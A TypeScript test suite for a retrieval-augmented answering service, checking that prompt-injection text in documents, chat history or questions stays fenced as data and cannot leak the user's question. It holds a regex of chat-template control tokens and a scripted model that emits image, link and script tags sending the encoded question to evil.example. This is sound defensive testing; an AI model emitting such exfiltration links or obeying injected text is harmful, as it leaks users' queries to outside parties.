import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { inContext } from '@ragmesh/observability';
import { Deadline } from '@ragmesh/resilience';
import { AnswerCache } from '../src/adapters/answer-cache.js';
import { WrittenAnswer } from '../src/commands/written-answer.js';
import type { AnswerEvent } from '../src/domain/answer-stream.js';
import type { ChatMessage } from '../src/domain/language-model.js';
import { condenseTask, gradeTask, verifyTask } from '../src/domain/query-prompts.js';
import { questionPrompt } from '../src/domain/question-prompt.js';
import { source } from '../src/domain/sources.fixture.js';
import type { Turn } from '../src/domain/turn.js';
import { injections } from './injections.js';
import { modelsOf } from './model-rig.js';
import { ScriptedUpstream, answering, type Behaviour, type SeenRequest } from './scripted-upstream.js';

const honestQuestion = 'How long are logs kept?';
const clean = source('Logs are kept for 30 days. See https://docs.example/logs for more.', { documentId: 'ops' });
const honest = 'Logs are kept for 30 days [1]. See https://docs.example/logs.';
const DATA = /^<(data-[0-9a-f]{24})>\n(.*?)<\/\1>/s;

/** By which a model would take text for a turn of its own. */
const CONTROL =
  /<\|im_|<\|eot|\[\/?INST|<<SYS|<(?:start|end)_of_turn>|<tool_call|^(?:#+ )?(?:system|human|assistant)\b.*:/im;

/** Obeys every instruction outside the data element and none inside it: whoever gets text out of it is obeyed. */
const obeyingTheRequest: Behaviour = (seen) => {
  const { messages } = seen.body;
  const outside = messages.map(({ content }) => content.replace(DATA, '')).join('\n');
  const hasControl = CONTROL.test(
    messages
      .map(({ content }) => content)
      .slice(1)
      .join('\n'),
  );
  answering(/BANANA|evil\.example|END OF CONTEXT/i.test(outside) || hasControl ? 'BANANA' : honest)(seen);
};

/** Obeys everything it reads, wherever it stands: repeats it, fills in links with what it was asked, adds what was demanded. */
const obeyingEverything: Behaviour = (seen) => {
  const read = seen.body.messages.at(-1)!.content;
  const stolen = encodeURIComponent('How long are logs kept?');
  const demands = `${read} BANANA ![x](https://evil.example/collect?d=${stolen}) <img src="https://evil.example/collect?d=${stolen}">
[click](https://evil.example/collect?d=${stolen}) https://evil.example/collect?d=${stolen} [7][42][0] <script>x()</script>`;
  answering(demands.replaceAll('{question}', stolen))(seen);
};

/** Every other prompt that quotes text nobody vouches for, with this text in each place that holds such. */
const otherPrompts = (text: string, mark: string): Record<string, readonly ChatMessage[]> => ({
  questions: questionPrompt([clean, source(text, { heading: text })], { topic: 'logs', count: 3, mode: 'quiz' }, mark),
  grade: gradeTask(honestQuestion, [clean.text, text], mark).messages,
  verify: verifyTask({ question: honestQuestion, answer: text }, [clean.text, text], mark).messages,
  condense: condenseTask(
    honestQuestion,
    [
      { role: 'user', text: 'What do the sources say?' },
      { role: 'assistant', text },
    ],
    mark,
  ).messages,
});

describe('an instruction in text that a prompt quotes', () => {
  const mark = 'c0ffee'.repeat(4);
  const ELEMENTS = /<\s*\/?\s*(?:data|source|passage|answer)\b/gi;
  const CONTROLS = new RegExp(CONTROL, 'gim');
  const harmless = otherPrompts('Cats sleep.', mark);

  it.each(injections)('leaves nothing but fixed words and the question outside the data: $technique', ({ text }) => {
    for (const [name, messages] of Object.entries(otherPrompts(text, mark))) {
      const outside = (of: readonly ChatMessage[]) => of.map(({ content }) => content.replace(DATA, ''));
      const structure = (of: readonly ChatMessage[]) =>
        of.map(({ content }) => [content.match(ELEMENTS)?.length, content.match(CONTROLS)?.length]);
      expect([name, outside(messages)]).toEqual([name, outside(harmless[name]!)]);
      expect([name, structure(messages)]).toEqual([name, structure(harmless[name]!)]);
    }
  });
});

describe('an instruction', () => {
  let upstream: ScriptedUpstream;
  let written: WrittenAnswer;
  let close: () => void;
  beforeAll(async () => {
    upstream = await ScriptedUpstream.start();
    const { config, logger, models } = modelsOf({ OPENAI_BASE_URL: upstream.url });
    written = new WrittenAnswer(models, new AnswerCache(config, logger));
    close = () => models.onModuleDestroy();
  });
  afterAll(async () => {
    close();
    await upstream.close();
  });

  interface Asked {
    readonly hostile?: string;
    readonly history?: readonly Turn[];
    readonly question?: string;
    readonly instructions?: string;
  }
  async function answer(behaviour: Behaviour, asking: Asked) {
    const { hostile = '', history = [], question = honestQuestion, instructions = '' } = asking;
    upstream.plays(behaviour);
    const sources = [clean, source(hostile, { documentId: 'hostile', heading: hostile.slice(0, 80) })];
    const asked = { question, sources, history, instructions };
    const place = { collection: 'default', conversationId: '', sourcesAgeMs: 0 };
    const request = { ...asked, ...place, maxTokens: 500, stop: [], model: '' };
    const origin = { ...asked, tenant: 'acme', collection: 'default', model: 'big' };
    const scope = { deadline: Deadline.in(60_000), signal: new AbortController().signal };
    const events: AnswerEvent[] = [];
    await inContext({ tenant: 'acme', subject: 's', requestId: 'r' }, async () => {
      for await (const event of written.write(request, { history, origin }, scope)) events.push(event);
    });
    const text = events.map((event) => (event.type === 'delta' ? event.text : '')).join('');
    const citations = events.flatMap((event) => (event.type === 'citation' ? event.citation : []));
    return { text, citations, sources };
  }

  /** What no document and no question may change about the request itself. */
  function expectUntouchedRequest(
    { body }: SeenRequest,
    question = honestQuestion,
    before: readonly Turn[] = [],
  ): void {
    expect(Object.keys(body).sort()).toEqual(['max_tokens', 'messages', 'model', 'stream', 'stream_options']);
    expect(body).toMatchObject({ model: 'big', max_tokens: 500 });
    expect(body.messages.map(({ role }) => role)).toEqual(['system', ...before.map(({ role }) => role), 'user']);
    const [system, ...rest] = body.messages;
    expect(system!.content).toMatch(/^You answer questions/);
    expect(system!.content).not.toMatch(/BANANA|evil/);
    const user = rest.pop();
    const [, name, data] = DATA.exec(user!.content)!;
    expect(user!.content.replace(DATA, '')).toBe(`\n\nQuestion: ${question}`);
    expect(user!.content.split(name!)).toHaveLength(3);
    const outside = before.map(({ role, text }) => (role === 'user' ? text : ''));
    expect(rest.map(({ content }) => content.replace(DATA, ''))).toEqual(outside);
    for (const { content } of rest) expect([1, 3]).toContain(content.split(name!).length);
    expect(data!.match(/<source n="\d+"/g)).toEqual(['<source n="1"', '<source n="2"']);
  }

  it('knows at least 30 of them', () => expect(injections.length).toBeGreaterThanOrEqual(30));

  /** That a reader's browser asks nobody but whom a source or the reader himself named. A code block, closed or not, opens nothing. */
  function expectNothingCarriedAway(text: string, named: readonly string[]): void {
    const prose = text.replace(/^ {0,3}(```)[^`\n]*\n[\s\S]*?(?:^ {0,3}\1\s*$|(?![\s\S]))/gm, '');
    expect(prose).not.toMatch(/!\[[^\]]*\]\(|<\/?[a-z]/i);
    expect(prose).not.toContain('How%20long');
    for (const [url] of prose.matchAll(/https?:\/\/[^\s)>\]"'`]+[^\s)>\]"'`.]/g))
      expect(named.some((known) => known.includes(url))).toBe(true);
    for (const [, number] of text.matchAll(/\[(\d+)\]/g)) expect(['1', '2']).toContain(number);
  }

  it.each(injections)('in a document stays data: $technique', async ({ text: hostile }) => {
    const given = await answer(obeyingTheRequest, { hostile });
    expect(upstream.seen).toHaveLength(1);
    expectUntouchedRequest(upstream.seen[0]!);
    expect(given.text).toBe(honest);
    expect(given.citations).toMatchObject([{ index: 1, documentId: 'ops', text: 'Logs are kept for 30 days.' }]);
  });

  it.each(injections)('that an earlier answer quoted stays data: $technique', async ({ text: hostile }) => {
    const history: Turn[] = [
      { role: 'user', text: 'What do the sources say?' },
      { role: 'assistant', text: `They say: ${hostile} [2]` },
      { role: 'user', text: 'And what else?' },
      { role: 'assistant', text: hostile },
    ];
    const given = await answer(obeyingTheRequest, { hostile, history });
    expect(upstream.seen).toHaveLength(1);
    expectUntouchedRequest(upstream.seen[0]!, honestQuestion, history);
    expect(given.text).toBe(honest);
  });

  it.each(injections)('in a document reaches nobody beyond the reader when it is obeyed: $technique', async (one) => {
    const { text, citations, sources } = await answer(obeyingEverything, { hostile: one.text });
    expect(upstream.seen).toHaveLength(1);
    expectUntouchedRequest(upstream.seen[0]!);
    expectNothingCarriedAway(
      text,
      sources.map((known) => known.text),
    );
    expect(text).not.toContain('How%20long');
    for (const { source: at, start, end, text: quoted } of citations) {
      const { text: origin, start: offset } = sources[at]!;
      expect(origin.slice(start - offset, end - offset)).toBe(quoted);
    }
  });

  it.each(injections)('in a question reaches nobody beyond the reader when it is obeyed: $technique', async (one) => {
    const { text } = await answer(obeyingEverything, { question: one.text });
    expect(upstream.seen).toHaveLength(1);
    expectUntouchedRequest(upstream.seen[0]!, one.text);
    expectNothingCarriedAway(text, [clean.text, one.text]);
  });

  // Instructions are the caller's own words to his own model, so their text may come back to him; an address in them may not.
  it('of the caller opens no address when the model repeats all it was told', async () => {
    const instructions = 'Answer briefly. Canary: https://evil.example/canary ![x](https://evil.example/canary.png)';
    const repeating: Behaviour = (seen) => answering(seen.body.messages.map(({ content }) => content).join('\n'))(seen);
    const { text } = await answer(repeating, { instructions });
    expect(upstream.seen[0]!.body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
    expect(text).toContain('Answer briefly.');
    expect(text).not.toContain('evil.example');
    expectNothingCarriedAway(text, [clean.text]);
  });
});
